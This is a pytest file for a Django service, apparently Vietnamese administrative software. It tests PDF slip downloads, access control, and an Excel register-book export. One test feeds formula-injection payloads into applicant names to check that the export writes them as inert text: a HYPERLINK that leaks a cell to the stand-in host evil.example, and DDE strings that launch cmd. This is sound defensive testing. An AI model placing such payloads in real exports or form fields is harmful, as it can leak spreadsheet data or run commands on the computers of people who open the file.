from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pytest_django.fixtures import Settings
from rest_framework.test import APIClient

from motcua.accounts.models import Applicant
from motcua.api.tests.clients import client_for
from motcua.dossiers.tests.slip_helpers import page_size_mm, pdf_text, walk

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media_in_tmp(settings: Settings, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


def test_slip_pdf_for_the_dossiers_officer() -> None:
    walked = walk()
    code = walked.returned.code
    client = client_for(walked.world.receiver)

    response = client.get(f"/api/v1/dossiers/{code}/slips/01/")
    control = client.get(f"/api/v1/dossiers/{code}/slips/06/")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert f"mau-01-{code}.pdf" in response["Content-Disposition"]
    assert page_size_mm(response.content) == (148, 210)
    assert code in pdf_text(response.content)
    assert control.status_code == 200
    assert page_size_mm(control.content) == (210, 297)


def test_slip_of_another_agency_unknown_form_or_absent_form_is_404() -> None:
    walked = walk()
    code = walked.returned.code

    other = client_for(walked.world.outsider).get(f"/api/v1/dossiers/{code}/slips/01/")
    client = client_for(walked.world.specialist)
    unknown = client.get(f"/api/v1/dossiers/{code}/slips/09/")
    absent = client.get(f"/api/v1/dossiers/{code}/slips/03/")

    assert other.status_code == 404
    assert unknown.status_code == 404
    assert absent.status_code == 404
    assert "09" in unknown.json()["message"]
    assert APIClient().get(f"/api/v1/dossiers/{code}/slips/01/").status_code in {401, 403}


def test_register_book_xlsx_for_officers_of_the_agency() -> None:
    world = walk().world
    url = f"/api/v1/register-book/?agency={world.centre.code}&from=2026-03-01&to=2026-03-31"

    response = client_for(world.receiver).get(url)
    refused = client_for(world.outsider).get(url)
    bad = client_for(world.receiver).get("/api/v1/register-book/?from=2026-13-01")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet is not None
    assert sheet["B6"].value.startswith(world.centre.code)
    assert refused.status_code == 403
    assert bad.status_code == 400
    assert {e["path"] for e in bad.json()["errors"]} == {"agency", "from", "to"}


def _register_cells(response_content: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(BytesIO(response_content)).active
    assert sheet is not None
    return [(cell.value, cell.data_type) for row in sheet.iter_rows(min_row=6) for cell in row]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
        "+84 912 345 678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_register_book_writes_a_formula_like_name_as_text(name: str) -> None:
    walked = walk()
    world = walked.world
    Applicant.objects.filter(pk=walked.returned.applicant_id).update(name=name, address=name)
    url = f"/api/v1/register-book/?agency={world.centre.code}&from=2026-03-01&to=2026-03-31"

    response = client_for(world.receiver).get(url)

    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=6) for cell in row if cell.value == name]
    assert cells, "the name is written exactly as accepted"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert all(value is None or type_ != "f" for value, type_ in _register_cells(response.content))


def test_exports_survive_a_stored_character_no_export_can_carry() -> None:
    # given: legacy data, stored before the edge refused such characters
    walked = walk()
    world = walked.world
    code = walked.returned.code
    Applicant.objects.filter(pk=walked.returned.applicant_id).update(
        name="Nguyễn\ufffeVăn\x01An\uffff", address="Số 1\x0b phố Huế"
    )
    client = client_for(world.receiver)
    url = f"/api/v1/register-book/?agency={world.centre.code}&from=2026-03-01&to=2026-03-31"

    # when
    book = client.get(url)
    slips = [client.get(f"/api/v1/dossiers/{code}/slips/{form}/") for form in ("01", "02", "06")]

    # then
    assert book.status_code == 200
    names = [value for value, _type in _register_cells(book.content) if value]
    assert "Nguyễn\ufffdVăn\ufffdAn\ufffd" in names
    assert [slip.status_code for slip in slips] == [200, 200, 200]
    assert all(slip["Content-Type"] == "application/pdf" for slip in slips)
